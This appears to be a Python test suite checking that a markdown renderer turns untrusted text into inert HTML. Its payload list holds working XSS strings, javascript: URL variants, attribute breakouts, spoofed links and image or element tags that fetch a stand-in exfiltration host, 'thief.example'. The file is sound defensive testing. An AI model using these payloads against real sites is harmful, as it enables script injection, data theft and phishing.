"""Text of people and models is inert: it fetches nothing, runs nothing, hides nothing and leads nowhere unseen."""

import random
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studio.web.markdown import MAX_CHARACTERS, guide_html, to_html

THIEF = "https://thief.example/log?stolen=notes"
ALLOWED = {
    *("p", "br", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "a", "span"),
    *("h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
PAYLOADS = [
    # images: fetched without a click
    f"![chart]({THIEF})",
    f"![chart](<{THIEF}>)",
    f"![chart]({THIEF} 'title')",
    "![chart](//thief.example/log)",
    f"![chart][pic]\n\n[pic]: {THIEF}",
    f"![pic]\n\n[pic]: {THIEF}",
    f"[![inside]({THIEF})](https://fine.example)",
    f"Before\n\n> ![quoted]({THIEF})\n> more",
    f"1. one\n   ![listed]({THIEF})",
    f"| a | b |\n|---|---|\n| ![cell]({THIEF}) | c |",
    f"# ![heading]({THIEF})",
    f"**![bold]({THIEF})**",
    f"!\\[x]({THIEF}) ![y\\]]({THIEF})",
    # elements that fetch
    f"<img src='{THIEF}'>",
    f'<IMG SRC="{THIEF}"',
    f"<img srcset='{THIEF} 2x'>",
    f"<img src=`{THIEF}`>",
    f"<image src='{THIEF}'>",
    f"<picture><source srcset='{THIEF}'><img></picture>",
    f"<svg><image href='{THIEF}'/></svg>",
    f"<svg><use href='{THIEF}#x'/></svg>",
    f"<svg><style>@import '{THIEF}'</style></svg>",
    f"<math><mtext><img src='{THIEF}'></mtext></math>",
    f"<video poster='{THIEF}' autoplay></video>",
    f"<audio src='{THIEF}' autoplay></audio>",
    f"<track src='{THIEF}'>",
    f"<iframe src='{THIEF}'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data='{THIEF}'></object>",
    f"<embed src='{THIEF}'>",
    f"<link rel=stylesheet href='{THIEF}'>",
    f"<link rel=preconnect href='{THIEF}'>",
    f"<meta http-equiv=refresh content='0;url={THIEF}'>",
    f"<base href='{THIEF}'>",
    f"<style>body{{background:url({THIEF})}}</style>",
    f"<p style='background:url({THIEF})'>x</p>",
    f"<table background='{THIEF}'><tr><td>x</table>",
    f"<body background='{THIEF}'>",
    f"<input type=image src='{THIEF}'>",
    f"<portal src='{THIEF}'></portal>",
    f"<noscript><img src='{THIEF}'></noscript>",
    f"<template><img src='{THIEF}'></template>",
    f"<textarea></textarea><img src='{THIEF}'>",
    # scripts
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a onmouseover='alert(1)' href='https://fine.example'>x</a>",
    f"<a ping='{THIEF}' href='https://fine.example'>x</a>",
    f"<form action='{THIEF}'><button autofocus>go</button></form>",
    "[c](javascript:alert(1))",
    "[c](JaVaScRiPt:alert(1))",
    "[c](java&#x0A;script:alert(1))",
    "[c](&#106;avascript:alert(1))",
    "[c](%6aavascript:alert(1))",
    "[c](vbscript:msgbox)",
    "[c](data:text/html;base64,PHNjcmlwdD4=)",
    "[c](file:///etc/passwd)",
    "[c](blob:https://fine.example/1)",
    "<javascript:alert(1)>",
    "[c]\n\n[c]: javascript:alert(1)",
    "[c](https://fine.example 'x\" onmouseover=\"alert(1)')",
    '[c](https://fine.example/"onmouseover="alert(1))',
    '```" onclick=alert(1) x="\ncode\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    # our own tools turned against us
    "<div hx-get='/team/' hx-trigger=load>x</div>",
    "<div data-hx-post='/exports/' hx-trigger='load'>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "<div data-stream='team:1' data-after='0'>x</div>",
    "<div ws-connect='/ws/events/team:1/'>x</div>",
    "<button data-key=a data-copy='x'>x</button>",
    "<span class='hunk' data-hunk=1>x</span>",
    "[c](/accounts/logout/)",
    "[c](//thief.example/)",
    "[c](\\\\thief.example)",
    "[c](#main)",
    "[c](?verdict=approve)",
]


class Reader(HTMLParser):
    """Collects everything in a page that is more than text: what is not in the list of harmless things is dangerous."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.dangers.append(f"element {tag}")
        for name, value in attrs:
            if not self._is_harmless(tag, name, value or ""):
                self.dangers.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.dangers.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.dangers.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.dangers.append("an instruction")

    @staticmethod
    def _is_harmless(tag: str, name: str, value: str) -> bool:
        if tag == "a" and name == "href":
            address = urlsplit(value)
            return address.scheme in {"http", "https"} and bool(address.netloc)
        if tag == "a" and name == "rel":
            return value == "noopener noreferrer nofollow"
        return (tag, name) == ("ol", "start") or (tag, name, value) == ("span", "class", "link-host")


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_and_every_beginning_of_it_stay_inert(payload: str) -> None:
    for end in range(1, len(payload) + 1):
        assert read(to_html(payload[:end])).dangers == [], payload[:end]


def test_hostile_texts_stay_inert_when_they_are_mixed() -> None:
    rng = random.Random(11)
    for _ in range(300):
        pieces = rng.sample(PAYLOADS, 3)
        text = "".join(
            piece[rng.randrange(len(piece)) :] + rng.choice(["", " ", "\n\n", "\n> ", "|"]) for piece in pieces
        )
        assert read(to_html(text)).dangers == [], text


@settings(max_examples=300)
@given(st.text(alphabet="<>[]()!`*_#|&;:/\\\"'= \n\tahrefimgsonclick123", max_size=120))
def test_random_marks_never_make_more_than_text(text: str) -> None:
    assert read(to_html(text)).dangers == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guide_is_as_strict_but_for_links_within_the_site(payload: str) -> None:
    dangers = [
        danger for danger in read(guide_html(payload)).dangers if not danger.startswith(("a href=/", "a href=#"))
    ]
    assert dangers == []
    assert "thief.example" not in "".join(dangers)


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[your bank](https://thief.example/login)", "thief.example"),
        ("[https://bank.example](https://thief.example)", "thief.example"),
        ("[click](https://bank.example@thief.example/)", "thief.example"),
        ("[click](https://bank.example%2f@thief.example/)", "thief.example"),
        ("[click](HTTPS://Thief.Example:8443/)", "thief.example"),
        ("[click](https://bаnk.example)", "xn--bnk-6cd.example"),
        ("[click](https://[::1]:8000/)", "::1"),
        ("[thief.example](https://bank.example/thief.example)", "bank.example"),
    ],
)
def test_a_link_says_which_host_it_leads_to(text: str, host: str) -> None:
    assert f'<span class="link-host">({host})</span>' in to_html(text)


def test_a_link_that_already_shows_its_address_says_it_once() -> None:
    assert "link-host" not in to_html("<https://fine.example/a>")


def test_every_link_is_cut_off_from_this_page() -> None:
    assert 'rel="noopener noreferrer nofollow"' in to_html("[a](https://fine.example)")


@pytest.mark.parametrize(
    "text", ["[secret]: https://thief.example", "<div>words</div>", "![alt](x.png)", "<!-- note -->"]
)
def test_nothing_that_was_written_vanishes(text: str) -> None:
    assert text in read(to_html(text)).text


def test_ordinary_markdown_is_rendered() -> None:
    html = to_html(
        "## Title\n\nA **bold** word, `code`.\n\n- one\n- two\n\n| a |\n|---|\n| b |\n\n3. three\n\n~~gone~~"
    )
    for part in (
        "<h4>Title</h4>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>b</td>",
        "<s>gone</s>",
    ):
        assert part in html
    assert '<ol start="3">' in html


def test_a_text_never_has_the_pages_own_heading() -> None:
    html = to_html("# one\n\n###### six\n\nSetext\n===")
    assert "<h3>one</h3>" in html
    assert "<h6>six</h6>" in html
    assert "<h3>Setext</h3>" in html


def test_the_guide_keeps_its_headings_and_its_links_within_the_site() -> None:
    html = guide_html("## Start\n\n[Settings](/help/settings/) and [below](#start)")
    assert "<h2>Start</h2>" in html
    assert 'href="/help/settings/"' in html
    assert "link-host" not in html


CITATIONS = {1: "/vault/documents/7/?start=10&end=20", 2: "#evidence-2"}


def test_a_number_in_brackets_becomes_a_citation() -> None:
    html = to_html("Sixty days [1].", CITATIONS)
    assert (
        '<a class="cite" href="/vault/documents/7/?start=10&amp;end=20" rel="noopener noreferrer nofollow">1</a>'
        in html
    )


def test_several_numbers_become_several_citations() -> None:
    assert to_html("So it is [1, 2].", CITATIONS).count('class="cite"') == 2


def test_a_number_without_evidence_is_shown_as_broken() -> None:
    assert '<span class="cite is-bad">7?</span>' in to_html("So it is [7].", CITATIONS)


def test_numbers_in_code_and_links_stay_what_they_are() -> None:
    html = to_html("`a[1]` and [see [2] here](https://fine.example)", CITATIONS)
    assert 'class="cite"' not in html


def test_brackets_stay_without_citations() -> None:
    assert "[1]" in to_html("Sixty days [1].")


def test_a_link_cannot_pose_as_a_citation() -> None:
    html = to_html("[2](#evidence-2) [x](/vault/documents/7/)", {1: "#evidence-1"})
    assert "href" not in html


def test_a_citation_address_cannot_break_out_of_its_attribute() -> None:
    html = to_html("x [1]", {1: '#a" onclick="alert(1)'})
    reader = read(html.replace("cite", "link-host"))
    assert [danger for danger in reader.dangers if "onclick=" in danger.split(" ")[1]] == []


def test_a_text_beyond_the_limit_is_shown_as_it_is() -> None:
    html = to_html("<b>" + "x" * MAX_CHARACTERS)
    assert html.startswith("<pre>&lt;b&gt;xxx")


@pytest.mark.parametrize(
    "text", ["[" * 4000, "*" * 4000, "> " * 2000, "`" * 4000, "- " * 2000, "|" * 4000, "![" * 2000, "<" * 4000]
)
def test_repeated_marks_are_read_to_the_end(text: str) -> None:
    assert read(to_html(text)).dangers == []
